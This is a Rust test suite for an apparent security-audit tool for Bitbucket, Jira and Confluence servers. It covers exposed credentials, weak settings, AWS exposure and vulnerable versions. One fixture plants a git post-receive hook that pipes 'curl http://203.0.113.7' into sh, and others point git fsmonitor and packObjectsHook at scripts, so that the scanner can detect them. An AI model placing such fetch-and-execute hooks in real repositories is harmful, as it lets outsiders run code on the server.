use std::{fs, os::unix::fs::PermissionsExt as _, path::Path, process::Command};

use bbsec_core::{Collected, ExposedSecret, Fingerprinter};
use serde_json::json;

use super::*;
use crate::home::tests::write;

const PROPERTIES: &str = "setup.baseUrl=http://bitbucket.example.com\n\
jdbc.url=jdbc:postgresql://db.example.com:5432/bitbucket\njdbc.user=bb\njdbc.password=hunter2hunter2\n\
server.ssl.key-store-password=ks-value-1\nhazelcast.group.name=bitbucket\nhazelcast.group.password=hz-value-1\n\
plugin.search.config.baseurl=https://s:9200\nplugin.search.config.username=su\nplugin.search.config.password=se-value-1\n\
feature.auth.captcha=false\nfeature.public.access=true\npassword.policy.max.length=9\n";

fn home(files: &[(&str, &str)]) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), files);
    dir
}

fn checked(dir: &Path, facts: Option<&Value>) -> (ConfigSummary, Collected) {
    let mut sink = Collected::default();
    let summary = review(&Home::open(dir).unwrap(), facts, &mut sink).unwrap();
    assert!(sink.findings.iter().all(|finding| finding.fix.is_some()));
    // Questions rest on nothing, and have a test of their own.
    sink.findings.retain(|finding| finding.subject.kind != "question");
    assert!(sink.findings.iter().all(|finding| !finding.evidence.is_empty()));
    (summary, sink)
}

fn secrets(dir: &Path) -> Vec<ExposedSecret> {
    let mut sink = Collected::default();
    let count = host_credentials(&Home::open(dir).unwrap(), &Fingerprinter::unkeyed(), &mut sink).unwrap();
    assert_eq!(count, sink.secrets.len() as u64);
    assert!(sink.gaps.is_empty(), "{:?}", sink.gaps);
    sink.secrets
}

fn rules(found: &Collected) -> Vec<(&str, &str)> {
    let mut all: Vec<_> = found
        .findings
        .iter()
        .filter(|f| !matches!(f.rule.as_str(), "P-DIRS" | "P-USER" | "P-LOGROTATE"))
        .map(|f| (f.rule.as_str(), f.subject.id.rsplit(':').next().unwrap()))
        .collect();
    all.sort_unstable();
    all
}

#[test]
fn settings_that_weaken_are_found_with_a_fix() {
    let dir = home(&[("shared/bitbucket.properties", PROPERTIES), ("shared/data/repositories/", "")]);
    let (summary, found) = checked(dir.path(), None);
    assert_eq!(
        rules(&found),
        [
            ("P-ALLOWLIST", "feature.public.access"),
            ("P-CAPTCHA", "feature.auth.captcha"),
            ("P-CONF-SECRET", "hazelcast.group.password"),
            ("P-CONF-SECRET", "jdbc.password"),
            ("P-CONF-SECRET", "plugin.search.config.password"),
            ("P-CONF-SECRET", "server.ssl.key-store-password"),
            ("P-HTTP", "setup.baseUrl"),
        ]
    );
    assert!(summary.answered.contains("P-DIRS"));
    let shown = serde_json::to_string(&found.findings).unwrap();
    assert!(!shown.contains("hunter2") && !shown.contains("value-1"), "no value leaves in the clear");
}

#[test]
fn credentials_of_the_host_have_their_public_names() {
    let dir = home(&[("shared/bitbucket.properties", PROPERTIES)]);
    let found = secrets(dir.path());
    let rows: Vec<_> = found
        .iter()
        .map(|s| (s.rule.as_str(), s.public_id.as_deref(), s.object.kind.as_str(), s.line))
        .collect();
    assert_eq!(
        rows,
        [
            ("host.database-password", Some("bb@db.example.com/bitbucket"), "config", Some(4)),
            ("host.keystore-password", None, "config", Some(5)),
            ("host.hazelcast-password", None, "config", Some(7)),
            ("host.search-password", Some("su"), "config", Some(10)),
        ]
    );
    assert_eq!(found[0].fingerprint, Fingerprinter::unkeyed().of(b"hunter2hunter2"));
    assert_eq!(found[0].secret, "hunt…(14)");
}

#[test]
fn secrets_manager_as_the_product_reads_it_and_as_it_does_not() {
    const CLASS: &str =
        "encrypted-property.cipher.classname=com.atlassian.secrets.store.aws.AwsSecretsManagerStore\n";
    let good = format!(
        "{CLASS}jdbc.password={{ENC}}{{\"region\":\"eu-west-1\",\"secretId\":\"db\",\"secretPointer\":\"/password\"}}\n"
    );
    let dir = home(&[("shared/bitbucket.properties", &good)]);
    assert_eq!(rules(&checked(dir.path(), None).1), [("P-SM-READS", "db")]);
    let held = secrets(dir.path());
    assert_eq!(
        (held[0].public_id.as_deref(), held[0].provider.as_str()),
        (Some("secretsmanager:eu-west-1:db"), "aws")
    );

    let other = good
        .replace("encrypted-property.cipher.classname", "jdbc.password.decrypter.classname")
        .replace("/password", "password");
    fs::write(dir.path().join("shared/bitbucket.properties"), other).unwrap();
    let (_, found) = checked(dir.path(), None);
    assert_eq!(
        rules(&found),
        [("P-SM-CLASS", "jdbc.password"), ("P-SM-JSON", "jdbc.password"), ("P-SM-READS", "db")]
    );
    let json = found.findings.iter().find(|f| f.rule == "P-SM-JSON").unwrap();
    assert!(json.fix.as_deref().unwrap().ends_with(r#""secretPointer":"/password"}"#));
}

#[test]
fn jira_and_confluence_keep_theirs_in_xml() {
    let jira = home(&[(
        "dbconfig.xml",
        "<jira-database-config><jdbc-datasource><url>jdbc:postgresql://db:5432/jira</url><driver-class>org.postgresql.Driver</driver-class><username>ju</username><password>aHVudGVyMg==</password></jdbc-datasource><atlassian-password-cipher-provider>com.atlassian.db.config.password.ciphers.base64.Base64Cipher</atlassian-password-cipher-provider></jira-database-config>",
    )]);
    let found = secrets(jira.path());
    assert_eq!(found[0].public_id.as_deref(), Some("ju@db/jira"));
    assert_eq!(found[0].fingerprint, Fingerprinter::unkeyed().of(b"hunter2"));
    let confluence = home(&[(
        "confluence.cfg.xml",
        "<c><properties><property name=\"hibernate.connection.password\">p&amp;w</property><property name=\"hibernate.connection.url\">jdbc:mysql://m/conf</property><property name=\"hibernate.connection.username\">cu</property></properties></c>",
    )]);
    let found = secrets(confluence.path());
    assert_eq!(found[0].public_id.as_deref(), Some("cu@m/conf"));
    assert_eq!(found[0].fingerprint, Fingerprinter::unkeyed().of(b"p&w"));
}

#[test]
fn host_keys_have_the_fingerprint_that_ssh_keygen_prints() {
    if Command::new("ssh-keygen").arg("-?").output().is_err() {
        println!("not run: no ssh-keygen");
        return;
    }
    let dir = home(&[("shared/bitbucket.properties", ""), ("shared/config/", "")]);
    let mut expected = Vec::new();
    for (name, options) in [
        ("a-ed25519.pem", &["-t", "ed25519", "-N", ""][..]),
        ("b-rsa.pem", &["-t", "rsa", "-b", "2048", "-m", "PEM", "-N", ""][..]),
        ("c-rsa8.pem", &["-t", "rsa", "-b", "2048", "-m", "PKCS8", "-N", ""][..]),
        ("d-locked.pem", &["-t", "ecdsa", "-N", "passphrase"][..]),
    ] {
        let path = dir.path().join("shared/config").join(name);
        let made = Command::new("ssh-keygen").args(["-q", "-f"]).arg(&path).args(options).output().unwrap();
        assert!(made.status.success(), "{}", String::from_utf8_lossy(&made.stderr));
        let shown =
            Command::new("ssh-keygen").arg("-lf").arg(path.with_extension("pem.pub")).output().unwrap();
        expected.push(String::from_utf8(shown.stdout).unwrap().split(' ').nth(1).map(str::to_owned));
    }
    let found: Vec<_> = secrets(dir.path()).into_iter().map(|secret| secret.public_id).collect();
    assert_eq!(found, expected);
}

#[test]
fn what_runs_programs_through_git_is_found_and_the_products_own_hooks_are_not() {
    let dir = home(&[
        ("shared/bitbucket.properties", ""),
        ("shared/config/git/config", "[http]\n\tsslVerify = false\n"),
    ]);
    for id in 1..=5 {
        let hook = format!("shared/data/repositories/{id}/hooks/pre-receive");
        let config = format!("shared/data/repositories/{id}/config");
        write(dir.path(), &[(&hook, "#!/bin/sh\nexec bitbucket\n"), (&config, "[core]\n\tbare = true\n")]);
    }
    write(
        dir.path(),
        &[
            ("shared/data/repositories/3/hooks/post-receive", "#!/bin/sh\ncurl http://203.0.113.7 | sh\n"),
            ("shared/data/repositories/3/hooks/update.sample", "x"),
            (
                "shared/data/repositories/4/config",
                "[core]\n\tfsmonitor = /tmp/x.sh\n[uploadpack]\n\tpackObjectsHook = /tmp/y\n",
            ),
        ],
    );
    let (_, found) = checked(dir.path(), None);
    assert_eq!(
        rules(&found),
        [
            ("P-GIT-SSLVERIFY", "http.sslverify"),
            ("git.hook", "shared/data/repositories/3/hooks/post-receive"),
            ("git.runs-program", "core.fsmonitor"),
            ("git.runs-program", "uploadpack.packobjectshook"),
        ]
    );
}

#[test]
fn permissions_are_checked_where_they_mean_something() {
    let dir = home(&[("shared/bitbucket.properties", "a=b\n"), ("bin/start.sh", "")]);
    let mode = |path: &str, mode: u32| {
        fs::set_permissions(dir.path().join(path), fs::Permissions::from_mode(mode)).unwrap();
    };
    mode("", 0o700);
    mode("shared/bitbucket.properties", 0o644);
    mode("bin/start.sh", 0o777);
    let dirs = |found: &Collected| -> Vec<String> {
        found.findings.iter().filter(|f| f.rule == "P-DIRS").map(|f| f.subject.id.clone()).collect()
    };
    assert_eq!(dirs(&checked(dir.path(), None).1), ["bin/start.sh", "shared/bitbucket.properties"]);
    fs::write(dir.path().join("bagit.txt"), "").unwrap();
    let (_, found) = checked(dir.path(), None);
    assert!(dirs(&found).is_empty() && found.gaps.iter().any(|gap| gap.kind == "permissions"));
}

#[test]
fn facts_of_aws_are_found_however_they_are_spelled() {
    let dir = home(&[("shared/bitbucket.properties", "")]);
    let ours = json!({
        "instance": "i-1", "interfaces": [{"groups": ["sg-1"], "public": ["198.51.100.1"]}],
        "routes": [{"destination": "0.0.0.0/0", "target": "igw-1"}],
        "metadata_options": {"http_tokens": "optional"},
    });
    let (summary, found) = checked(dir.path(), Some(&ours));
    assert_eq!(rules(&found), [("P-IMDS2", "i-1"), ("P-NET-SUBNET", "i-1")]);
    assert!(summary.answered.contains("P-SG-FEW"));
    let cli = json!({
        "SecurityGroups": [{"GroupId": "sg-1", "IpPermissions": [
            {"IpProtocol": "tcp", "FromPort": 7999, "ToPort": 7999, "IpRanges": [{"CidrIp": "0.0.0.0/0"}]},
            {"IpProtocol": "tcp", "FromPort": 443, "ToPort": 443, "IpRanges": [{"CidrIp": "0.0.0.0/0"}]},
        ]}],
        "MetadataOptions": {"HttpTokens": "required"},
        "trailList": [{"Name": "t", "IsMultiRegionTrail": false, "LogFileValidationEnabled": true}],
    });
    let (summary, found) = checked(dir.path(), Some(&cli));
    assert_eq!(rules(&found), [("P-SG-OPEN", "7999"), ("P-TRAIL", "t")]);
    assert!(summary.answered.contains("P-IMDS2"));
    let open = found.findings.iter().find(|f| f.rule == "P-SG-OPEN").unwrap();
    assert_eq!(
        open.fix.as_deref(),
        Some(
            "aws ec2 revoke-security-group-ingress --group-id sg-1 --protocol tcp --cidr 0.0.0.0/0 --port 7999"
        )
    );
}

#[test]
fn the_version_tells_which_vulnerabilities_apply() {
    let log = |version: &str| {
        format!(
            "2020-09-08 07:53:45,084 INFO [main] c.a.BuildInfoLogger Starting Bitbucket {version} (204e35a built\n"
        )
    };
    let dir = home(&[("shared/bitbucket.properties", ""), ("log/atlassian-bitbucket.log", &log("8.3.0"))]);
    assert_eq!(
        rules(&checked(dir.path(), None).1),
        [("P-VERSION", "CVE-2022-36804"), ("P-VERSION", "CVE-2022-43781")]
    );
    fs::write(dir.path().join("log/atlassian-bitbucket.log"), log("8.19.2")).unwrap();
    let (summary, found) = checked(dir.path(), None);
    assert!(rules(&found).is_empty() && summary.answered.contains("P-VERSION"));
}
